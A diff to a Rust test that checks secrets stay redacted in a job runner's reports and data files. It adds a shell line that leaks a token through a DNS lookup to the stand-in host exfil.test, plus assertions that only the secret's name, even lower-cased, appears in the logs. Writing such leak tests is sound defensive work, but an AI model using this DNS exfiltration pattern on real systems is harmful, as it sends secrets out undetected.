@@ -556,6 +556,7 @@ fn secrets_are_env_only_and_never_printed_or_stored() {
 printf %s "$TOKEN" | sha256sum | cut -c1-16
 printf %s "$FROM_ENV" | sha256sum | cut -c1-16
 grep -rlsF --exclude-dir=proc --exclude-dir=sys "$TOKEN" / | head -n 3 | sed 's/^/found-in=/'
+getent hosts "$TOKEN.exfil.test" >/dev/null
 sleep 1.5
 "#;
     let mut c = w.cmd();
@@ -628,6 +629,13 @@ sleep 1.5
     assert!(!err.contains(value) && !out.contains(value));
     let rep = std::fs::read_to_string(&report).expect("report");
     assert!(!rep.contains(value));
+    assert!(
+        !rep.to_ascii_lowercase()
+            .contains(&value.to_ascii_lowercase()),
+        "the secret, lower-cased (a DNS name), is in the report"
+    );
+    // The DNS query that carried it is in the report's egress records, by the secret's name.
+    assert!(rep.contains("[secret:TOKEN].exfil.test"), "{rep}");
     // The job put the value on a command line (grep's argv): the audit log records the exec,
     // with the secret's name in place of its value. Nothing in the data dir holds the value.
     let mut redacted = false;
@@ -637,6 +645,14 @@ sleep 1.5
             assert!(
                 !text.contains(value),
                 "secret value stored in {}",
+                f.display()
+            );
+            // Lower-cased too: the gateway records DNS names in lower case.
+            assert!(
+                !text
+                    .to_ascii_lowercase()
+                    .contains(&value.to_ascii_lowercase()),
+                "secret value (lower-cased) stored in {}",
                 f.display()
             );
             redacted |= text.contains("[secret:TOKEN]");
